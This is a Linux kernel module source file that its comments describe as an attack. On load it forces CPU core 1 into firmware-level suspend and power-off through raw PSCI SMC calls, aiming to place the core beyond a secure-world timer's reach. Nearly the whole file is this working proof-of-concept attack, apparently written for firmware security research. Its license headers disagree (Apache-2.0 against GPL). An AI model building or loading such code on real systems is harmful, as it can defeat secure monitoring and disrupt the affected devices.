// SPDX-License-Identifier: Apache-2.0
/* Attack: takes the second core out of the secure timer's reach by PSCI calls that Linux itself
 * never makes. If the firmware does it, the call does not return. */
#include <linux/arm-smccc.h>
#include <linux/module.h>
#include <linux/smp.h>

#define PSCI_CPU_OFF 0x84000002
#define PSCI_CPU_SUSPEND 0xc4000001
#define POWER_DOWN (1 << 16)

static void attack(void *unused)
{
    struct arm_smccc_res res;

    arm_smccc_smc(PSCI_CPU_SUSPEND, POWER_DOWN, 0, 0, 0, 0, 0, 0, &res);
    pr_info("kapu-attack: CPU_SUSPEND %d\n", (int)res.a0);
    arm_smccc_smc(PSCI_CPU_OFF, 0, 0, 0, 0, 0, 0, 0, &res);
    pr_info("kapu-attack: CPU_OFF %d\n", (int)res.a0);
}

static int __init power_init(void)
{
    return smp_call_function_single(1, attack, NULL, 1);
}

static void __exit power_exit(void)
{
}

module_init(power_init);
module_exit(power_exit);
MODULE_DESCRIPTION("kapu attack: cores out of sight");
MODULE_LICENSE("GPL");
